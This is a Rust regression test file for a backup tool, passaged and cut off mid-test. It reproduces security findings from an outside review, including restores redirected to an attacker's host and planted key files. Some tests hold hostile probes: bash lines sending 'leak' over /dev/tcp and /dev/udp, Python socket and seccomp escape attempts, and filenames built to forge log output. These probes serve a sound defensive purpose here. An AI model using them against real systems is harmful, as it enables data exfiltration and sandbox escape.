//! What outside testing broke (issue 12), each reproduced against the real
//! binary: sources that block, a restore sent to another host, a planted
//! key file, junk in `snapshots/` and `index/`, read-only storage, entry
//! names no file can have, a snapshot choosing the program that restores
//! it, a granted program reading the agent's secrets, a restore that loses
//! its storage, a full disk; and the smaller ones (forged log lines, a
//! restore without a deadline, misleading messages, the API's rate limit).

use crate::common::*;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// Send SIGTERM to `child`.
fn sigterm(child: &std::process::Child) {
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(child.id() as i32).unwrap(),
        rustix::process::Signal::TERM,
    )
    .unwrap();
}

fn lock_files(repo: &Path) -> usize {
    std::fs::read_dir(repo.join("locks"))
        .map(|d| d.count())
        .unwrap_or(0)
}

/// `cairn backup <paths> --adapter faulty --adapter-config <config>`.
fn faulty_cmd(s: &Scratch, paths: &[&Path], config: serde_json::Value, extra: &[&str]) -> Command {
    let config = config.to_string();
    let mut args: Vec<&str> = vec!["backup"];
    args.extend(paths.iter().map(|p| p.to_str().unwrap()));
    args.extend([
        "--adapter",
        cairn::runtime::bundled::FAULTY_PATH,
        "--adapter-config",
        &config,
    ]);
    args.extend_from_slice(extra);
    s.cairn_cmd(&args)
}

/// Whatever reached `listener` within a couple of seconds; none expected.
fn reached(listener: &std::net::TcpListener) -> Option<Vec<u8>> {
    listener.set_nonblocking(true).unwrap();
    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        match listener.accept() {
            Ok((mut conn, _)) => {
                conn.set_nonblocking(false).unwrap();
                conn.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
                let mut got = vec![0u8; 4096];
                let n = conn.read(&mut got).unwrap_or(0);
                got.truncate(n);
                return Some(got);
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                if Instant::now() > deadline {
                    return None;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(e) => panic!("accept: {e}"),
        }
    }
}

/// Issue 12, item 1: `cairn backup --timeout 5 /proc/kmsg` hung in the
/// host, deaf to its deadline and to SIGTERM. Its read would block: it is
/// left out (exit 3), at once, and no lock stays behind.
#[test]
fn a_source_whose_read_blocks_is_left_out_and_the_backup_ends() {
    let s = Scratch::new();
    s.init();
    let b = bounded(
        s.cairn_cmd(&["backup", "--timeout", "5", "/proc/kmsg"]),
        Duration::from_secs(60),
        1024,
    );
    assert_eq!(b.out.status.code(), Some(3), "{}", text(&b.out));
    assert!(stderr(&b.out).contains("/proc/kmsg"), "{}", text(&b.out));
    assert!(b.took < Duration::from_secs(30), "took {:?}", b.took);
    assert_eq!(lock_files(&s.repo()), 0, "a lock stayed behind");
}

/// A file system mounted for a test: the stuck one in tests/fixtures,
/// served until dropped.
struct StuckFs {
    server: std::process::Child,
    mountpoint: PathBuf,
}

impl StuckFs {
    fn mount(at: &Path) -> StuckFs {
        std::fs::create_dir_all(at).unwrap();
        let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures/stuck_fs.py");
        let mut server = Command::new("python3")
            .arg(&fixture)
            .arg(at)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        let out = server.stdout.take().unwrap();
        let _ = std::io::BufRead::read_line(&mut std::io::BufReader::new(out), &mut line);
        if line != "mounted\n" {
            let _ = server.kill();
            let _ = server.wait();
            let mut err = String::new();
            let _ = server.stderr.take().unwrap().read_to_string(&mut err);
            panic!(
                "this test mounts a FUSE file system (run the suite as root, with /dev/fuse): {err}"
            );
        }
        StuckFs {
            server,
            mountpoint: at.to_path_buf(),
        }
    }

    /// Stop serving: every request waiting on it fails.
    fn abort(&mut self) {
        if self.server.try_wait().ok().flatten().is_some() {
            return;
        }
        let _ = self.server.kill();
        let _ = self.server.wait();
        let _ = Command::new("umount")
            .arg("-l")
            .arg(&self.mountpoint)
            .output();
    }
}

impl Drop for StuckFs {
    fn drop(&mut self) {
        self.abort();
    }
}

/// Wait until `child` has said `needle` on stderr and the repository's
/// lock is gone, while its read is still stuck in `fs`; then end the file
/// system (and with it the read) and collect the exit status and stderr.
fn settle_stuck(
    s: &Scratch,
    mut child: std::process::Child,
    needle: &str,
    fs: &mut StuckFs,
) -> (std::process::ExitStatus, String) {
    let mut err = child.stderr.take().unwrap();
    let said = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let reader = {
        let said = said.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n) = err.read(&mut buf) {
                if n == 0 {
                    break;
                }
                said.lock()
                    .unwrap()
                    .push_str(&String::from_utf8_lossy(&buf[..n]));
            }
        })
    };
    let deadline = Instant::now() + Duration::from_secs(40);
    while !(said.lock().unwrap().contains(needle) && lock_files(&s.repo()) == 0) {
        assert!(
            Instant::now() < deadline,
            "no {needle:?} and no lock removed while the read was stuck: {}",
            said.lock().unwrap()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    fs.abort();
    let status = child.wait().unwrap();
    reader.join().unwrap();
    let said = said.lock().unwrap().clone();
    (status, said)
}

/// Issue 12, item 1: a read that the kernel never completes (a hung network
/// or FUSE mount) held off the deadline and signals. The deadline and
/// SIGTERM end the command (its lock removed, its error said) while the
/// read is still stuck, also on one CPU.
#[test]
fn a_read_that_never_returns_is_abandoned_at_the_deadline_and_on_sigterm() {
    let s = Scratch::new();
    s.init();
    let mount = s.path("stuck");
    let config = serde_json::json!({"fault": "pump", "path": mount.join("f")}).to_string();
    let run = |extra: &[&str]| {
        let mut c = Command::new("taskset");
        c.args(["-c", "0"])
            .arg(crate::common::cairn_bin())
            .arg("backup")
            .arg(&mount)
            .args([
                "--adapter",
                cairn::runtime::bundled::FAULTY_PATH,
                "--adapter-config",
                &config,
            ])
            .args(extra)
            .env("CAIRN_REPOSITORY", s.repo())
            .env("CAIRN_PASSWORD", PASSWORD)
            .env("CAIRN_CACHE_DIR", cache_dir())
            .stdout(Stdio::null())
            .stderr(Stdio::piped());
        c.spawn().unwrap()
    };

    let mut fs = StuckFs::mount(&mount);
    let child = run(&["--timeout", "5"]);
    let (status, said) = settle_stuck(&s, child, "timed out after 5s", &mut fs);
    assert_eq!(status.code(), Some(1), "{said}");
    assert!(said.contains("no snapshot was written"), "{said}");
    assert_eq!(s.snapshot_count(), 0);

    let mut fs = StuckFs::mount(&mount);
    let child = run(&[]);
    std::thread::sleep(Duration::from_secs(3));
    sigterm(&child);
    let (status, said) = settle_stuck(
        &s,
        child,
        "stopped by SIGTERM; no snapshot was written",
        &mut fs,
    );
    assert_eq!(status.code(), Some(1), "{said}");
    assert_eq!(s.snapshot_count(), 0);
    s.cairn_ok(&["check"]);
}

/// Issue 12, item 1: a FIFO swapped in between the adapter's `stat` and the
/// host's `open` (what `renameat2(RENAME_EXCHANGE)` lets any local user do
/// in a backed-up directory) blocked the read forever. A file other than
/// the one examined is also refused; a character device is never read
/// (pumping `/dev/zero` grew the host to 1.5 GB in 3 s).
#[test]
fn a_file_swapped_after_it_was_examined_is_left_out_not_read() {
    let s = Scratch::new();
    s.init();
    let src = s.path("src");
    std::fs::create_dir_all(&src).unwrap();
    let file = src.join("file");
    std::fs::write(&file, b"hello").unwrap();
    let other = src.join("other");
    std::fs::write(&other, b"other").unwrap();
    let fifo = src.join("fifo");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &fifo,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o644),
        0,
    )
    .unwrap();
    // A writer holds the FIFO open and writes nothing: a read would wait.
    let _writer = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(&fifo)
        .unwrap();
    let pump = |path: &Path, stat: &Path| {
        bounded(
            faulty_cmd(
                &s,
                &[&src],
                serde_json::json!({"fault": "pump", "path": path, "stat": stat}),
                &["--timeout", "20"],
            ),
            Duration::from_secs(60),
            1024,
        )
    };

    // Examined a regular file, found a FIFO when opening it.
    let b = pump(&fifo, &file);
    assert_eq!(b.out.status.code(), Some(3), "{}", text(&b.out));
    assert!(stderr(&b.out).contains("named pipe"), "{}", text(&b.out));
    // Examined one file, another one is there now.
    let b = pump(&other, &file);
    assert_eq!(b.out.status.code(), Some(3), "{}", text(&b.out));
    assert!(
        stderr(&b.out).contains("not the file that was examined"),
        "{}",
        text(&b.out)
    );
    // The control: the file that was examined is stored.
    let b = pump(&file, &file);
    assert!(b.out.status.success(), "{}", text(&b.out));
    assert_eq!(
        s.restic_ok(&["dump", "latest", "/faulty/pumped"]),
        "hello",
        "the pumped file"
    );

    // A character device, endless and of size 0: refused, never buffered.
    let b = bounded(
        faulty_cmd(
            &s,
            &[Path::new("/dev/zero")],
            serde_json::json!({"fault": "pump", "path": "/dev/zero"}),
            &["--timeout", "20"],
        ),
        Duration::from_secs(60),
        1024,
    );
    assert_eq!(b.out.status.code(), Some(3), "{}", text(&b.out));
    assert!(
        stderr(&b.out).contains("character device"),
        "{}",
        text(&b.out)
    );
    assert_eq!(lock_files(&s.repo()), 0);
    s.cairn_ok(&["check", "--read-data"]);
}

/// Issue 12, item 2: a restore through the API could set the job's `host`
/// and `port`, and the granted psql then sent the job's password and data
/// to any host. Overrides may not touch where a job connects or as whom,
/// and a granted program reaches only the job's granted endpoints: a
/// listener standing in for the attacker's host receives nothing.
#[test]
fn a_restore_cannot_send_a_jobs_connection_or_data_elsewhere() {
    let db = "cairn_t12_leak";
    crate::postgres::psql("postgres", &format!("DROP DATABASE IF EXISTS {db}"));
    crate::postgres::psql("postgres", &format!("CREATE DATABASE {db}"));
    crate::postgres::psql(
        db,
        "CREATE TABLE t (v text); INSERT INTO t VALUES ('secret row')",
    );
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = attacker.local_addr().unwrap().port().to_string();

    let s = Scratch::new();
    let jobs = format!(
        "[jobs.pg]\ntenant = \"acme\"\nadapter = \"postgres\"\nconfig = {{ host = \"127.0.0.1\", port = 5432, user = \"postgres\", databases = [{db:?}] }}\ngrants = {{ programs = [\"pg_dump\", \"pg_dumpall\", \"pg_restore\", \"psql\"], connect = [\"127.0.0.1:5432\"] }}\n"
    );
    let agent = crate::agent::start_agent(&s, "", &jobs);
    let run = agent.run_job("pg");
    assert_eq!(run["status"], "succeeded", "{run}\n{}", agent.log());

    // Through the API: refused before anything runs.
    for set in [
        serde_json::json!({"host": "127.0.0.1", "port": port}),
        serde_json::json!({"password-secret": "other"}),
        serde_json::json!({"user": "postgres"}),
    ] {
        let body = serde_json::json!({"job": "pg", "snapshot": "latest", "set": set}).to_string();
        let (status, reply) = agent.call(
            "POST",
            "/v1/restores",
            Some(crate::agent::TOKEN),
            Some(&body),
        );
        assert_eq!(status, 422, "{set}: {reply}");
        assert_eq!(reply["error"]["code"], "invalid_request", "{reply}");
        assert!(
            reply["error"]["message"]
                .as_str()
                .unwrap()
                .contains("where the job connects"),
            "{reply}"
        );
    }
    assert_eq!(
        reached(&attacker),
        None,
        "the API sent the restore elsewhere"
    );

    // On the command line: the same.
    let config = s.path("agent.toml");
    let out = s.cairn_config(
        &config,
        &[
            "restore",
            "--job",
            "pg",
            "latest",
            "--set",
            &format!("port={port}"),
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(stderr(&out).contains("--set port"), "{}", text(&out));
    assert_eq!(reached(&attacker), None);

    // A job whose own config points its programs at an endpoint it does
    // not grant: the programs are confined to the grants, whatever the
    // adapter passes them.
    let misdirected = s.path("misdirected.toml");
    std::fs::write(
        &misdirected,
        std::fs::read_to_string(&config)
            .unwrap()
            .replace("port = 5432", &format!("port = {port}")),
    )
    .unwrap();
    let out = s.cairn_config(&misdirected, &["backup", "--job", "pg"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        stderr(&out).contains(&format!("127.0.0.1:{port}")),
        "the denied address must be named: {}",
        text(&out)
    );
    assert!(
        stderr(&out).contains("Denied a granted program"),
        "{}",
        text(&out)
    );
    assert_eq!(
        reached(&attacker),
        None,
        "a granted program reached an ungranted endpoint"
    );

    // Any granted program, TCP or UDP: bash's /dev/tcp and /dev/udp.
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let out = faulty_cmd(
        &s,
        &[],
        serde_json::json!({"fault": "run", "program": "bash", "args": ["-c",
            format!("echo leak >/dev/tcp/127.0.0.1/{port}; echo leak >/dev/udp/127.0.0.1/{udp_port}; true")]}),
        &["--grant-program", "bash"],
    )
    .env("CAIRN_REPOSITORY", s.repo())
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        reached(&attacker),
        None,
        "bash reached an ungranted endpoint"
    );
    udp.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
    let mut buf = [0u8; 64];
    assert!(udp.recv(&mut buf).is_err(), "bash sent a datagram");
    // A datagram addressed with family AF_UNSPEC (which Linux reads as
    // AF_INET), and a socket of another protocol (SCTP connects through a
    // socket option): from a granted python, both refused.
    let probe = format!(
        "import ctypes, socket, struct\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         addr = struct.pack('=H', 0) + struct.pack('>H', {udp_port}) + socket.inet_aton('127.0.0.1') + bytes(8)\n\
         r = libc.sendto(s.fileno(), b'unspec', 6, 0, addr, len(addr))\n\
         print('unspec', r, ctypes.get_errno())\n\
         try:\n    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)\n    print('sctp allowed')\n\
         except OSError as e:\n    print('sctp', e.errno)\n\
         s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
         try:\n    s6.setsockopt(41, 57, bytes(24))\n    print('rthdr allowed')\n\
         except OSError as e:\n    print('rthdr', e.errno)\n\
         r = libc.syscall(317, 1, 0, None)\n\
         print('seccomp', r, ctypes.get_errno())\n"
    );
    let out = faulty_cmd(
        &s,
        &[],
        serde_json::json!({"fault": "run", "program": "python3", "args": ["-c", probe]}),
        &[
            "--grant-program",
            "python3",
            "--grant-connect",
            "127.0.0.1:5432",
        ],
    )
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        udp.recv(&mut buf).is_err(),
        "an AF_UNSPEC datagram got through"
    );
    let said = s.restic_ok(&["dump", "latest", "/faulty/output"]);
    assert!(said.contains("unspec -1 13"), "{said}");
    assert!(said.contains("sctp 13"), "{said}");
    // No IPv6 routing header (it would carry packets on elsewhere), and no
    // filter of its own (with one, a program that outlives the agent
    // could answer its own requests).
    assert!(said.contains("rthdr 1"), "{said}");
    assert!(said.contains("seccomp -1 1"), "{said}");

    // A job's configuration is not replaced whole on the command line.
    let out = s.cairn_config(
        &config,
        &[
            "restore",
            "--job",
            "pg",
            "latest",
            "--adapter-config",
            &format!("{{\"host\": \"127.0.0.1\", \"port\": {port}}}"),
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        stderr(&out).contains("--adapter-config replaces a job's whole configuration"),
        "{}",
        text(&out)
    );
    assert_eq!(reached(&attacker), None);
    crate::postgres::psql("postgres", &format!("DROP DATABASE IF EXISTS {db}"));
}

/// A restic key file with the given scrypt N and p, named so that it
/// sorts before `before` (so it is tried first), with junk it cannot open.
fn planted_key(repo: &Path, n: u64, p: u32, before: &str, seed: u64) -> String {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    for i in seed * 1_000_000.. {
        let body = serde_json::json!({
            "created": "2026-12-06T10:00:00Z",
            "username": format!("planted{i}"),
            "hostname": "attacker",
            "kdf": "scrypt",
            "N": n,
            "r": 8,
            "p": p,
            "salt": b64.encode(random_bytes(64, i)),
            "data": b64.encode(random_bytes(112, i + 1)),
        })
        .to_string();
        let name = hex_sha256(body.as_bytes());
        if name.as_str() < before {
            std::fs::write(repo.join("keys").join(&name), body).unwrap();
            return name;
        }
    }
    unreachable!()
}

fn hex_sha256(data: &[u8]) -> String {
    cairn::repo::Id::hash(data).to_hex()
}

/// Issue 12, item 3: anyone who can write to the storage could add a key
/// file with scrypt N = 2^40, and every command then died allocating a
/// petabyte (2^22: 4 GB and 15 s each). Such keys are skipped, named.
#[test]
fn a_planted_key_file_asking_scrypt_for_too_much_is_skipped() {
    let (s, src) = Scratch::with_fixture();
    s.cairn_ok(&["backup", src.to_str().unwrap()]);
    let real: Vec<String> = std::fs::read_dir(s.repo().join("keys"))
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    let huge = planted_key(&s.repo(), 1 << 40, 1, &real[0], 1);
    let big = planted_key(&s.repo(), 1 << 22, 1, &real[0], 2);
    // A machine that never opened the repository: no hint which key works.
    let fresh = s.path("fresh-cache");
    // `snapshots` (after the options `first`) with the cache directory
    // `cache`, which holds the key hint.
    let snapshots = |cache: &Path, first: &[&str]| {
        let mut c = s.cairn_cmd(&[first, &["snapshots"]].concat());
        c.env("CAIRN_CACHE_DIR", cache);
        c
    };
    let b = bounded(snapshots(&fresh, &[]), Duration::from_secs(60), 1024);
    assert!(b.out.status.success(), "{}", text(&b.out));
    assert!(b.took < Duration::from_secs(20), "took {:?}", b.took);
    assert!(
        stdout_text(&b.out).contains("1 snapshots"),
        "{}",
        text(&b.out)
    );
    for name in [&huge, &big] {
        assert!(
            stderr(&b.out).contains(name.as_str()),
            "the skipped key must be named: {}",
            text(&b.out)
        );
    }
    // Files that are no key at all, however many and wherever they sort,
    // cost nothing and do not count against the keys tried.
    for i in 0..30u64 {
        std::fs::write(s.repo().join("keys").join(format!("{:064x}", i)), b"{}").unwrap();
    }
    let junk_only = s.path("junk-cache");
    let b = bounded(snapshots(&junk_only, &[]), Duration::from_secs(60), 1024);
    assert!(b.out.status.success(), "{}", text(&b.out));
    for i in 0..30u64 {
        std::fs::remove_file(s.repo().join("keys").join(format!("{:064x}", i))).unwrap();
    }
    // Many keys of allowed cost, tried before the real one, would make
    // every command slow: the key that opened the repository is tried
    // first from then on.
    for i in 0..25 {
        planted_key(&s.repo(), 1 << 15, 4, &real[0], 10 + i);
    }
    // A machine without the hint gives up after 20 key files, saying how
    // to name the right one; named, it opens at once.
    let another = s.path("another-cache");
    let b = bounded(snapshots(&another, &[]), Duration::from_secs(120), 1024);
    assert_eq!(b.out.status.code(), Some(1), "{}", text(&b.out));
    assert!(
        stderr(&b.out).contains("of the 20 tried (of 28)"),
        "{}",
        text(&b.out)
    );
    assert!(stderr(&b.out).contains("--key-hint"), "{}", text(&b.out));
    let b = bounded(
        snapshots(&another, &["--key-hint", &real[0][..12]]),
        Duration::from_secs(60),
        1024,
    );
    assert!(b.out.status.success(), "{}", text(&b.out));
    assert!(b.took < Duration::from_secs(5), "took {:?}", b.took);
    let b = bounded(snapshots(&fresh, &[]), Duration::from_secs(60), 1024);
    assert!(b.out.status.success(), "{}", text(&b.out));
    assert!(
        b.took < Duration::from_secs(5),
        "took {:?}: {}",
        b.took,
        text(&b.out)
    );
    s.restore_latest("out", &src);
    assert_same_tree(&src, &s.path("out").join(src.strip_prefix("/").unwrap()));
}

fn stdout_text(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Issue 12, item 4: one junk file in `snapshots/` or `index/` made
/// `snapshots`, `backup`, `restore <intact id>` and `forget` fail. A
/// damaged file is now passed over and named (exit 3: the command did its
/// job), `check` names it, `forget` removes a damaged snapshot file named
/// whole, and `rebuild-index` builds the index anew from the packs.
#[test]
fn junk_in_snapshots_or_index_is_named_and_the_rest_works() {
    let (s, src) = Scratch::with_fixture();
    s.cairn_ok(&["backup", src.to_str().unwrap()]);
    std::fs::write(src.join("later.txt"), b"second snapshot").unwrap();
    s.cairn_ok(&["backup", src.to_str().unwrap()]);
    let ids: Vec<String> = s
        .cairn_json(&["snapshots"])
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(ids.len(), 2);

    let junk_id = hex_sha256(b"not this");
    std::fs::write(s.repo().join("snapshots").join(&junk_id), b"junk").unwrap();
    std::fs::write(s.repo().join("snapshots/not-an-id"), random_bytes(1000, 5)).unwrap();
    let named = |out: &Output| {
        let err = stderr(out);
        assert!(err.contains(&junk_id), "{}", text(out));
        assert!(err.contains("not-an-id"), "{}", text(out));
    };

    let out = s.cairn(&["snapshots", "--json"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    named(&out);
    assert_eq!(last_json(&stdout_text(&out)).as_array().unwrap().len(), 2);

    let target = s.path("out");
    let out = s.cairn(&["restore", &ids[1], "--target", target.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    named(&out);
    assert_same_tree(&src, &target.join(src.strip_prefix("/").unwrap()));

    std::fs::write(src.join("third.txt"), b"third").unwrap();
    let out = s.cairn(&["backup", src.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    named(&out);

    let out = s.cairn(&["forget", "--keep-last", "1"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    named(&out);

    let out = s.cairn(&["check"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let report = format!("{}{}", stdout_text(&out), stderr(&out));
    assert!(
        report.contains(&junk_id) && report.contains("not-an-id"),
        "{report}"
    );

    // Damaged snapshot files go by their whole name; then all is clean.
    s.cairn_ok(&["forget", &junk_id, "not-an-id"]);
    assert_eq!(s.snapshot_count(), 1);
    s.cairn_ok(&["check"]);

    // An index file of junk: passed over and named, then rebuilt.
    let junk_index = hex_sha256(b"junk index");
    std::fs::write(
        s.repo().join("index").join(&junk_index),
        random_bytes(500, 9),
    )
    .unwrap();
    // `snapshots` reads no index (as restic's); what does read it names
    // the junk and goes on.
    s.cairn_ok(&["snapshots"]);
    let target = s.path("out2");
    let out = s.cairn(&["restore", "latest", "--target", target.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(stderr(&out).contains(&junk_index), "{}", text(&out));
    assert_same_tree(&src, &target.join(src.strip_prefix("/").unwrap()));
    let out = s.cairn(&["check"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(stdout_text(&out).contains(&junk_index), "{}", text(&out));
    s.cairn_ok(&["rebuild-index"]);
    assert!(!s.repo().join("index").join(&junk_index).exists());
    s.cairn_ok(&["check", "--read-data"]);
    s.restic_ok(&["check", "--read-data"]);

    // A damaged file's name cannot forge a line of output.
    let forged = s
        .repo()
        .join("snapshots/a\ncairn: restored snapshot e25c93af OK");
    std::fs::write(&forged, b"junk").unwrap();
    let out = s.cairn(&["snapshots"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    assert!(
        !stderr(&out)
            .lines()
            .any(|l| l.starts_with("cairn: restored")),
        "{}",
        text(&out)
    );
    std::fs::remove_file(&forged).unwrap();
}

/// An exclusive lock held by a live process (this test), written with the
/// repository's key.
fn plant_exclusive_lock(s: &Scratch) {
    use cairn::repo::Repository;
    use cairn::storage::local::LocalBackend;
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let repo = Repository::open(std::sync::Arc::new(LocalBackend::new(s.repo())), PASSWORD)
            .await
            .unwrap();
        let lock = cairn::repo::lock::Lock::for_this_process(true);
        repo.save_unpacked(
            cairn::storage::FileType::Lock,
            &serde_json::to_vec(&lock).unwrap(),
        )
        .await
        .unwrap();
    });
}

/// Issue 12, item 5: `restore` and `check` had to write a lock, so
/// read-only credentials (the disaster-recovery case) could not restore.
/// `--no-lock` reads without one, and a storage that refuses the lock is
/// read without one, with a warning.
#[test]
fn a_read_only_repository_restores_and_checks_without_a_lock() {
    let (s, src) = Scratch::with_fixture();
    s.cairn_ok(&["backup", src.to_str().unwrap()]);
    let landed = |target: &Path| target.join(src.strip_prefix("/").unwrap());

    // A user who may read the repository but not write to it.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(s.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let target = s.path("ro-target");
    std::fs::create_dir(&target).unwrap();
    std::os::unix::fs::chown(&target, Some(65534), Some(65534)).unwrap();
    let as_reader = |args: &[&str]| {
        let mut c = Command::new("setpriv");
        c.args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--inh-caps=-all",
            "--bounding-set=-all",
            "--",
        ])
        .arg(crate::common::cairn_bin())
        .args(args)
        .env("CAIRN_REPOSITORY", s.repo())
        .env("CAIRN_PASSWORD", PASSWORD)
        .env("CAIRN_CACHE_DIR", s.path("no-cache"))
        .env("HOME", "/nonexistent");
        c.output().unwrap()
    };
    let out = as_reader(&["restore", "latest", "--target", target.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        stderr(&out).contains("reading without a lock"),
        "{}",
        text(&out)
    );
    assert_same_tree(&src, &landed(&target));
    let out = as_reader(&["check", "--read-data"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        stderr(&out).contains("reading without a lock"),
        "{}",
        text(&out)
    );
    assert_eq!(lock_files(&s.repo()), 0);

    // Another process holds the exclusive lock (a prune, say): a restore
    // waits its turn, one with --no-lock reads anyway and writes no lock.
    plant_exclusive_lock(&s);
    let t1 = s.path("t1");
    let out = s.cairn(&["restore", "latest", "--target", t1.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(stderr(&out).contains("locked"), "{}", text(&out));
    let t2 = s.path("t2");
    s.cairn_ok(&[
        "--no-lock",
        "restore",
        "latest",
        "--target",
        t2.to_str().unwrap(),
    ]);
    assert_same_tree(&src, &landed(&t2));
    assert_eq!(lock_files(&s.repo()), 1, "--no-lock wrote a lock");
    // A command that writes refuses it.
    let out = s.cairn(&["--no-lock", "backup", src.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        stderr(&out).contains("--no-lock is for commands that only read"),
        "{}",
        text(&out)
    );
}

/// Issue 12, item 9: a rerun resumes: files the target already has whole
/// are kept, read back blob by blob; one changed since, even keeping its
/// size and modification time, is rewritten (and `--overwrite always`
/// rewrites everything).
#[test]
fn a_rerun_keeps_files_restored_whole_and_rewrites_changed_ones() {
    let (s, src) = Scratch::with_fixture();
    s.cairn_ok(&["backup", src.to_str().unwrap()]);
    let target = s.path("out");
    let landed = target.join(src.strip_prefix("/").unwrap());
    let restore = |extra: &[&str]| {
        let mut args = vec!["restore", "latest", "--target", target.to_str().unwrap()];
        args.extend_from_slice(extra);
        s.cairn_json(&args)
    };
    let first = restore(&[]);
    assert_eq!(first["files_unchanged"], 0, "{first}");
    assert_same_tree(&src, &landed);
    // Tamper with one file, keeping its size and time.
    let victim = landed.join("docs/readme.txt");
    let meta = std::fs::metadata(&victim).unwrap();
    let size = meta.len() as usize;
    std::fs::write(&victim, "X".repeat(size)).unwrap();
    std::fs::set_permissions(&victim, meta.permissions()).unwrap();
    let mtime = filetime_of(&meta);
    set_mtime(&victim, mtime.0, mtime.1);
    // Another file, whole, but someone else's now: a restore as root does
    // not take over a file it did not make (its owner could still write
    // to it through a descriptor kept open).
    let planted = landed.join("large-text.txt");
    std::os::unix::fs::chown(&planted, Some(65534), Some(65534)).unwrap();
    let second = restore(&[]);
    let files = second["files"].as_u64().unwrap();
    assert_eq!(
        second["files_unchanged"].as_u64().unwrap(),
        files - 2,
        "{second}"
    );
    assert_same_tree(&src, &landed);
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        std::fs::metadata(&planted).unwrap().uid(),
        0,
        "the planted file was kept"
    );
    let third = restore(&["--overwrite", "always"]);
    assert_eq!(third["files_unchanged"], 0, "{third}");
    assert_same_tree(&src, &landed);
}

fn filetime_of(meta: &std::fs::Metadata) -> (i64, u32) {
    use std::os::unix::fs::MetadataExt;
    (meta.mtime(), meta.mtime_nsec() as u32)
}

/// A fresh repository in `s` holding one backup of the folder `src` with
/// the one file `name`; returns the folder.
fn backed_up(s: &Scratch, name: &str, data: &[u8]) -> PathBuf {
    s.init();
    let src = s.path("src");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join(name), data).unwrap();
    s.cairn_ok(&["backup", src.to_str().unwrap()]);
    src
}

/// Issue 12, item 9: a restore stopped in the middle (SIGTERM) leaves no
/// file half-written, and says so.
#[test]
fn a_restore_stopped_midway_leaves_no_half_written_file() {
    let s = Scratch::new();
    let src = backed_up(&s, "big.bin", &random_bytes(600 << 20, 77));
    let target = s.path("out");
    let big = target.join(src.strip_prefix("/").unwrap()).join("big.bin");
    let child = s
        .cairn_cmd(&["restore", "latest", "--target", target.to_str().unwrap()])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while std::fs::metadata(&big).map(|m| m.len()).unwrap_or(0) < (8 << 20) {
        assert!(Instant::now() < deadline, "the restore wrote nothing");
        std::thread::sleep(Duration::from_millis(10));
    }
    sigterm(&child);
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        stderr(&out).contains("a file being written was removed"),
        "{}",
        text(&out)
    );
    assert!(!big.exists(), "a half-written file stayed");
    assert_eq!(lock_files(&s.repo()), 0);
}

/// Issue 12, item 4: `rebuild-index` keeps, for a pack whose header is
/// damaged, what a readable old index file says of it: its blobs are
/// intact and each is authenticated when read.
#[test]
fn rebuild_index_keeps_what_the_old_index_knew_of_a_pack_with_a_damaged_header() {
    let s = Scratch::new();
    let src = backed_up(&s, "data.bin", &random_bytes(3 << 20, 12));
    // The data pack's header sits just before its last four bytes.
    let pack = packs(&s.repo()).remove(0);
    let mut bytes = std::fs::read(&pack).unwrap();
